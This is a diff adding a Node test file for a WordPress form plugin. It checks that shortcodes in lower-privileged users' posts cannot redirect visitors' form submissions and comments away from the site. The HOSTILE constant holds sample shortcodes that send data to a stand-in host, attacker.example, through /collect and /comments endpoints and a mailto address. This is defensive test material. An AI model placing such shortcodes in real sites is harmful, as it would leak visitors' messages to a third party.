@@ -1,0 +1,111 @@
+// Who may point a form elsewhere: a Contributor's, an Author's and (on a network) an Editor's post
+// with a hostile shortcode sends visitors' words to the site and nowhere else; an Administrator's
+// may name another address. Posts are written as those people write them: logged in, through the
+// REST API the block editor uses, with WordPress's own kses on save.
+import { test, before, after } from 'node:test';
+import assert from 'node:assert/strict';
+import { site, send, launch, visit, login, php } from './helpers.mjs';
+
+const ATTACKER = 'attacker.example';
+const HOSTILE = [
+  `[firm_contact_form source="rest" endpoint="https://${ATTACKER}/collect"]`,
+  `[firm_contact_form source="mailto" to="collect@${ATTACKER}" encoding="form" keep-drafts="device"]`,
+  `[firm_comments source="rest" endpoint="https://${ATTACKER}/comments" keep_drafts="device"]`,
+].join('\n\n');
+
+let browser;
+const people = {};
+before(async () => {
+  browser = await launch();
+  // Only the shortcodes' elements on these pages, not the comment-form replacement.
+  php(`$o = get_option('firm_widgets'); $o['replace_comments'] = false; update_option('firm_widgets', $o); return true;`);
+  for (const role of ['contributor', 'author', 'editor']) {
+    people[role] = php(
+      `$p = wp_generate_password(16, false); $id = wp_insert_user(array('user_login' => $input, 'user_pass' => $p, 'role' => $input, 'user_email' => $input . '@example.test', 'display_name' => ucfirst($input))); return array('id' => $id, 'password' => $p, 'login' => $input);`,
+      role,
+    );
+  }
+});
+after(async () => {
+  await browser?.close();
+});
+
+/** Logs in as `who` and creates (or, with `id`, updates) a post through /wp/v2/posts, as the block editor does. */
+async function write(who, { id, content, status }) {
+  const page = await login(browser, who.login, who.password);
+  try {
+    const nonce = await page.evaluate(async (url) => (await fetch(url)).text(), `${site.url}/wp-admin/admin-ajax.php?action=rest-nonce`);
+    const route = `${site.url}/?rest_route=/wp/v2/posts${id ? `/${id}` : ''}`;
+    const res = await page.evaluate(
+      async (url, nonce, body) => {
+        const r = await fetch(url, { method: 'POST', headers: { 'Content-Type': 'application/json', 'X-WP-Nonce': nonce }, body: JSON.stringify(body) });
+        return { status: r.status, json: await r.json() };
+      },
+      route,
+      nonce,
+      { title: `${who.login}'s post`, content, ...(status ? { status } : {}) },
+    );
+    assert.ok(res.status === 200 || res.status === 201, JSON.stringify(res));
+    return res.json.id;
+  } finally {
+    await page.leave();
+  }
+}
+
+const tags = (html) => html.match(/<firm-(contact-form|comments)[^>]*>/g) ?? [];
+
+/** The post as a visitor gets it: no attacker address anywhere, every form and thread on the site. */
+async function assertSiteOnly(id) {
+  const html = (await send(`${site.url}/?p=${id}`)).body;
+  const found = tags(html);
+  assert.equal(found.length, 3, html.slice(0, 300));
+  assert.ok(!html.includes(ATTACKER), `no ${ATTACKER} in the page: ${found.join(' ')}`);
+  for (const tag of found) {
+    assert.match(tag, / source="wordpress"/);
+    assert.ok(tag.includes(` endpoint="${site.url}/"`), tag);
+    assert.doesNotMatch(tag, / to=| encoding=| keep-drafts=/);
+  }
+  // And in a visitor's browser, where the element reads its attributes.
+  const visitor = await visit(browser, `/?p=${id}`);
+  try {
+    const endpoints = await visitor.$$eval('firm-contact-form, firm-comments', (els) => els.map((el) => `${el.source} ${el.endpoint} ${el.to ?? ''}`.trim()));
+    assert.deepEqual(endpoints, Array(3).fill(`wordpress ${site.url}/`));
+  } finally {
+    await visitor.leave();
+  }
+}
+
+test("a Contributor's post, once an editor publishes it, sends visitors' words only to the site", async () => {
+  const id = await write(people.contributor, { content: HOSTILE, status: 'pending' });
+  assert.equal(php(`return get_post_status($input);`, id), 'pending', 'a contributor cannot publish');
+  php(`wp_update_post(array('ID' => $input, 'post_status' => 'publish')); return true;`, id);
+  await assertSiteOnly(id);
+});
+
+test("an Author's published post sends visitors' words only to the site", async () => {
+  const id = await write(people.author, { content: HOSTILE, status: 'publish' });
+  assert.equal(php(`return get_post_status($input);`, id), 'publish');
+  await assertSiteOnly(id);
+});
+
+test("an Administrator's post may name another address", async () => {
+  const id = await write({ ...site.admin }, { content: HOSTILE, status: 'publish' });
+  const found = tags((await send(`${site.url}/?p=${id}`)).body);
+  assert.deepEqual(found, [
+    `<firm-contact-form source="rest" endpoint="https://${ATTACKER}/collect">`,
+    `<firm-contact-form source="mailto" endpoint="${site.url}/" to="collect@${ATTACKER}" encoding="form" keep-drafts="device">`,
+    `<firm-comments source="rest" endpoint="https://${ATTACKER}/comments" post-id="${id}" keep-drafts="device">`,
+  ]);
+});
+
+test("an Editor without unfiltered_html (as on a network) who edits an Administrator's post cannot add an address", async () => {
+  const id = await write({ ...site.admin }, { content: '[firm_contact_form]', status: 'publish' });
+  php(`get_role('editor')->remove_cap('unfiltered_html'); return true;`);
+  try {
+    await write(people.editor, { id, content: HOSTILE });
+    assert.equal(php(`return (int) get_post_field('post_author', $input);`, id), site.admin.id, "still the Administrator's post");
+    await assertSiteOnly(id);
+  } finally {
+    php(`get_role('editor')->add_cap('unfiltered_html'); return true;`);
+  }
+});
